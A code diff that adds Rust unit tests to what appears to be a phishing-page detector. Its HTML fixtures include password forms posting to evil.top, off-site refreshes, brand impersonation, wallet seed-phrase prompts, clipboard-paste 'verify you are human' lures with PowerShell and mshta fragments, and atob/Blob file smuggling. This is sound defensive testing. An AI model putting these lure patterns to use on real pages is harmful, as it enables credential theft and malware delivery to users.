@@ -94,6 +94,162 @@ fn where_a_form_really_posts() {
 }
 
 #[test]
+fn what_is_no_base_hides_nothing() {
+    let form = "<form action=https://evil.top/><input type=password></form>";
+    for base in ["'http://['", "'https://a b/'", "'data:,x'", "'javascript:1'", "''", "mailto:a@b"]
+    {
+        let page = format!("<base href={base}>{form}");
+        assert_eq!(kinds("https://example.com/", &page), [FindingKind::SecretsPosted], "{base}");
+        let refresh = "<meta http-equiv=refresh content='0; url=//evil.top/'>";
+        let page = format!("<base href={base}>{refresh}");
+        assert_eq!(kinds("https://example.com/", &page), [FindingKind::RefreshElsewhere], "{base}");
+    }
+    let second = "<base href=''><base href=https://evil.top/><form action=a><input name=q></form>";
+    assert_eq!(kinds("https://example.com/", second), []);
+    assert_eq!(kinds("shop.example.net:8080/login", form), [FindingKind::SecretsPosted]);
+    let own = "<form action=//shop.example.net:8080/a><input type=password></form>";
+    assert_eq!(kinds("shop.example.net:8080/login", own), []);
+}
+
+#[test]
+fn other_attributes_hide_no_target() {
+    let field = "<input type=password>";
+    for form in [
+        format!("<form src=x action='https://evil.top'>{field}</form>"),
+        format!("<form data=/ href=/ formaction=/ action='https://evil.top'>{field}</form>"),
+        format!("<form action='https://evil.top' action=/>{field}</form>"),
+        format!("<base src=/x href=https://evil.top/><form action=a>{field}</form>"),
+        format!("<form>{field}<button action=/ formaction=//evil.top>go</button></form>"),
+        format!("<form action='{}https://evil.top/'>{field}</form>", " ".repeat(5000)),
+    ] {
+        let kinds = kinds("https://example.com/", &form);
+        assert_eq!(kinds, [FindingKind::SecretsPosted], "{form}");
+    }
+    for form in [
+        format!("<form action=/ action='https://evil.top'>{field}</form>"),
+        format!("<form action='' action='https://evil.top'>{field}</form>"),
+    ] {
+        assert_eq!(kinds("https://example.com/", &form), [], "{form}");
+    }
+}
+
+#[test]
+fn a_page_is_at_home_however_its_host_is_written() {
+    let form = "<form action=/c.php><input type=password></form>";
+    let copy = "<!-- saved from url=(0020)https://www.xn--bcher-kva.example/ -->";
+    for url in ["http://3627734734/login", "http://bücher.example/login", "http://a%2eexample/"] {
+        assert_eq!(kinds(url, form), [], "{url}");
+    }
+    assert_eq!(kinds("http://bücher.example/login", copy), []);
+    let named = "<form><input type=password></form><img src=google.png><img src=/apple.svg>";
+    assert_eq!(kinds("https://example.com/", named), []);
+}
+
+#[test]
+fn pages_in_wide_letters() {
+    let context = PageContext { url: Some("https://example.com/"), redirects: &[] };
+    for (mark, bytes) in
+        [([0xff, 0xfe], u16::to_le_bytes as fn(u16) -> [u8; 2]), ([0xfe, 0xff], u16::to_be_bytes)]
+    {
+        let wide: Vec<u8> = mark.into_iter().chain(LOGIN.encode_utf16().flat_map(bytes)).collect();
+        assert!(judge(&wide, &context, &PageLimits::default()).is_malicious());
+    }
+}
+
+#[test]
+fn brands_of_several_words() {
+    let page = |name: &str| {
+        let field = "<form><input type=password></form>";
+        format!("<title>{name}</title><h1>{name}</h1><img alt='{name}'>{field}")
+    };
+    let all = [FindingKind::BrandInTitle, FindingKind::BrandInLogo, FindingKind::BrandInHeading];
+    assert_eq!(kinds("https://example.com/", &page("Wells Fargo")), all);
+    assert_eq!(kinds("https://www.wellsfargo.com/", &page("Wells Fargo")), []);
+    assert_eq!(kinds("https://www.berliner-sparkasse.de/", &page("Berliner Sparkasse")), []);
+    assert_eq!(kinds("https://sparkasse-login.de/", &page("Berliner Sparkasse")), all);
+    assert_eq!(kinds("https://idmsa.apple.com/", &page("iCloud")), []);
+    let fonts = "<link href='https://fonts.googleapis.com/css'><form><input type=password></form>";
+    assert_eq!(kinds("https://example.com/", fonts), []);
+}
+
+#[test]
+fn pages_that_ask_for_a_recovery_phrase() {
+    let words = "<input type=text>".repeat(12);
+    let numbered: String = (1..25).map(|n| format!("<input type=password id=w{n}>")).collect();
+    for html in [
+        "<label>Secret Recovery Phrase</label><textarea></textarea>".to_owned(),
+        "<form><textarea name=x placeholder='Enter your seed phrase'></textarea></form>".to_owned(),
+        "<input name=recovery_phrase>".to_owned(),
+        "<p>Paste your <b>seed phrase</b> to restore the wallet.</p><div><textarea></textarea>"
+            .into(),
+        format!("<p>Your 12-word recovery phrase</p>{words}"),
+        format!("<p>Restore your wallet</p>{words}"),
+        format!("<h1>Seed phrase</h1>{}<form>{numbered}</form>", "<p>Words. </p>".repeat(100)),
+    ] {
+        assert_eq!(kinds("https://example.com/", &html), [FindingKind::RecoveryPhrase], "{html}");
+        assert_eq!(kinds("https://metamask.io/", &html), [], "{html}");
+    }
+    let article = "<h1>What is a seed phrase?</h1><p>A recovery phrase restores a wallet.</p>";
+    for html in [
+        format!("{article}<textarea name=comment></textarea>"),
+        format!("{article}<h3>Leave a comment</h3><textarea></textarea>"),
+        format!("<input name=q placeholder=Search>{article}<input type=email>"),
+        format!("{article}<p>Never enter it on a site.</p><input name=code>"),
+        format!("{article}{}<textarea></textarea>", "<p>Much more to read. </p>".repeat(30)),
+        format!("<p>Make a crossword</p>{words}"),
+    ] {
+        assert_eq!(kinds("https://example.com/", &html), [], "{html}");
+    }
+}
+
+#[test]
+fn pages_that_have_a_command_pasted() {
+    let copies = "<script>navigator.clipboard.writeText(c)</script>";
+    let powershell = "<script>c='powershell -w h'; document.execCommand('copy')</script>";
+    let steps = "<p>Press <b>Windows Key</b> + <b>R</b></p><p>Press <kbd>CTRL</kbd> + <kbd>V</kbd>";
+    for html in [
+        format!("<p>Verify you are human</p>{steps}{copies}"),
+        format!("{steps}{powershell}"),
+        format!("<p>Open Terminal and press \u{2318}+V{powershell}"),
+        format!("<script>x.innerHTML='I am not a robot: Win+R, <b>Ctrl</b>+V'</script>{copies}"),
+        format!("<p onclick=\"navigator.clipboard.writeText('mshta x')\">{steps}"),
+    ] {
+        assert_eq!(kinds("https://example.com/", &html), [FindingKind::PastedCommand], "{html}");
+    }
+    for html in [
+        format!("<p>Open PowerShell and paste the command with Ctrl+V</p>{copies}"),
+        format!("{steps}<p>Type winver</p><pre>powershell -c ls</pre>{copies}"),
+        format!("<p>Are you human? reCAPTCHA</p><p>WinRAR: Ctrl+V</p>{copies}"),
+        format!("<p>Verify you are human</p>{steps}"),
+    ] {
+        assert_eq!(kinds("https://example.com/", &html), [], "{html}");
+    }
+}
+
+#[test]
+fn pages_that_smuggle_a_file() {
+    let packed = "QUJD".repeat(100_000);
+    let made = format!("b=atob('{packed}');u=URL.createObjectURL(new Blob([b]));");
+    for html in [
+        format!("<script>{made}a.href=u;a.click()</script>"),
+        format!("<a id=a download=x.zip></a><script>{made}a.href=u</script>"),
+        format!(
+            "<script>{}</script>",
+            made.replace("URL.createObjectURL", "navigator.msSaveOrOpenBlob")
+        ) + "<a download>",
+    ] {
+        assert_eq!(kinds("https://example.com/", &html), [FindingKind::SmuggledFile]);
+    }
+    for html in [
+        format!("<script>{made}image.src=u</script>"),
+        "<script>a.href=URL.createObjectURL(new Blob([csv]));a.download='x.csv';a.click()</script>"
+            .to_owned(),
+    ] {
+        assert_eq!(kinds("https://example.com/", &html), []);
+    }
+}
+
+#[test]
 fn programs_that_anybody_runs_are_at_home_anywhere() {
     let field = "<form action=/login method=post><input type=password></form>";
     for title in [
